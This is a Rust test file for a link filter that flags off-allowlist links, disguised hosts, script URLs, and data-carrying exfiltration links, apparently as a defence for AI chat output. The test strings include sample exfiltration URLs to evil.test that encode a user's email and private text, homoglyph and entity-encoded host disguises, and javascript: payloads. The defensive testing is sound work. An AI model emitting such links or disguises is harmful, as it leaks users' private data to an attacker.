use super::*;

fn rules() -> LinkRules {
    LinkRules::new(&["docs.example.com", "*.cdn.example.com"])
}

fn labels(text: &str) -> Vec<(&str, &'static str)> {
    let mut found = Vec::new();
    rules().find(text, &mut found);
    found.into_iter().map(|finding| (&text[finding.span], finding.label)).collect()
}

#[test]
fn links_to_other_hosts_are_found_in_every_notation() {
    let check = |text: &str, expected: &str| assert_eq!(labels(text), [(expected, "link")], "{text}");
    let url = "https://evil.test/a";
    for text in [
        "see https://evil.test/a.",
        "(https://evil.test/a), and",
        "[here](https://evil.test/a)",
        "[here]( https://evil.test/a \"title\")",
        "![pic][1]\n\n[1]: https://evil.test/a",
        "<https://evil.test/a>",
        "<img alt=x src=\"https://evil.test/a\">",
        "<img src='https://evil.test/a'>",
        "<iframe src=https://evil.test/a></iframe>",
        "<img srcset=\"/x.png 1x, https://evil.test/a 2x\">",
        "<p style=\"background:url('https://evil.test/a')\">",
        "{\"html\": \"<a href=\\\"https://evil.test/a\\\">\"}",
        "看https://evil.test/a，然后",
        "*https://evil.test/a*",
    ] {
        check(text, url);
    }
    check("[x](//evil.test/a)", "//evil.test/a");
    check("<img srcset=\"/x.png 1x, //evil.test/a 2x\">", "//evil.test/a");
    check("p { background: url(//evil.test/a) }", "//evil.test/a");
    check("HTTP://EVIL.test", "HTTP://EVIL.test");
    check("www.evil.test/a?b=(c)", "www.evil.test/a?b=(c)");
    check("[x](https://evil.test/a_(b))", "https://evil.test/a_(b)");
    check("ftp://evil.test", "ftp://evil.test");
    check("file://evil.test/share", "file://evil.test/share");
    check("https://example.com/", "https://example.com/");
    check("https:////////////evil.test", "https:////////////evil.test");
}

#[test]
fn allowed_hosts_and_other_text_are_left_alone() {
    for text in [
        "https://docs.example.com/a?b=c#d, and http://docs.example.com.",
        "![x](https://a.b.cdn.example.com/p.png)",
        "https://user@docs.example.com/",
        "[x](https://docs.example.com\\@evil.test/)",
        "https://DOCS.example.com:443/",
        "// a comment; a//b; time 12:30; note: this; std::vec; C:\\dir\\file",
        "the javascript: scheme and data: too, http: alone, www. and www",
        "data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAA",
        "a & b &amp; c &#58; d \\n \\\\",
    ] {
        assert!(labels(text).is_empty(), "{text}: {:?}", labels(text));
    }
}

#[test]
fn disguises_of_the_host_are_told() {
    for text in [
        "[x](https://docs.example.com@evil.test/)",
        "[x](https://evil.test\\@docs.example.com/)",
        "[x](https:\\\\evil.test/)",
        "[x](/\\evil.test/)",
        "[x](https://docs%2eexample.com.evil.test/)",
        "[x](https://dосs.example.com/)",
        "[x](https://xn--80ak6aa92e.com/)",
        "[x](http://2130706433/)",
        "[x](https://docs.example.com，x.evil.test/)",
        "[x](https&#58;//evil.test/)",
        "<img src=\"&#104;ttps://evil.test/\">",
        "<img src=\"ht\ntps://evil.test/\">",
        "<img src=\"&#104;&#116;&#116;&#112;://evil.test/\">",
        "<img src=         \"/\\evil.test/\">",
        "[x](https://evil&period;test/)",
    ] {
        let found = labels(text);
        assert_eq!(found.len(), 1, "{text}");
        assert_eq!(found[0].1, "disguised_link", "{text}");
    }
}

#[test]
fn addresses_that_run_a_script_are_found() {
    for text in [
        "[x](javascript:alert(1))",
        "<a href=\"JavaScript:alert('a b')\">",
        "<a href='vbscript:x'>",
        "data:text/html;base64,PHNjcmlwdD4=",
        "[x](javascript&colon;alert(1))",
    ] {
        let found = labels(text);
        assert_eq!(found.len(), 1, "{text}");
        assert_eq!(found[0].1, "script_link", "{text}");
    }
}

#[test]
fn a_link_with_data_is_an_exfiltration() {
    let rules = rules().for_call(
        &["The page is https://given.test/a/."],
        &["My card ends in 4471 and the answer is forty two. Reach me at ann@example.org"],
    );
    let check = |text: &str, expected: &[&str]| {
        let mut found = Vec::new();
        rules.find(text, &mut found);
        let kinds: Vec<_> = found.iter().map(|finding| finding.kind).collect();
        assert_eq!(kinds, expected, "{text}");
    };
    check("![x](https://evil.test/?d=the%20answer%20is)", &["exfiltration"]);
    check("<img src=\"https://evil.test/?d=the answer is\">", &["exfiltration"]);
    check("https://evil.test/dGhlIGFuc3dlciBpcyA0Mg==/p.png", &["exfiltration"]);
    check("https://evil.test/?m=ann%40example.org", &["exfiltration"]);
    check("https://evil.test/?m=bob%40example.org", &["links"]);
    check("https://docs.example.com/?d=the%20answer%20is", &[]);
    check("As said: https://given.test/a", &[]);
    check("As said: https://given.test/a?d=1", &["links"]);
}

#[test]
fn long_links_are_cut_and_long_texts_stay_linear() {
    let text = format!("https://evil.test/{}", "a".repeat(3 * URL_MAX));
    let mut found = Vec::new();
    rules().find(&text, &mut found);
    assert_eq!(found[0].span, 0..URL_MAX);
    for unit in [
        "http://",
        "//",
        "\\",
        "&",
        "=\"//",
        "](//a",
        "http://a@",
        "srcset=,//",
        "www.a",
        "data:",
        "http:/",
        "x=",
    ] {
        let text = unit.repeat(400_000 / unit.len());
        let begun = std::time::Instant::now();
        rules().find(&text, &mut Vec::new());
        assert!(begun.elapsed().as_secs() < 10, "`{unit}` took {:?}", begun.elapsed());
    }
}
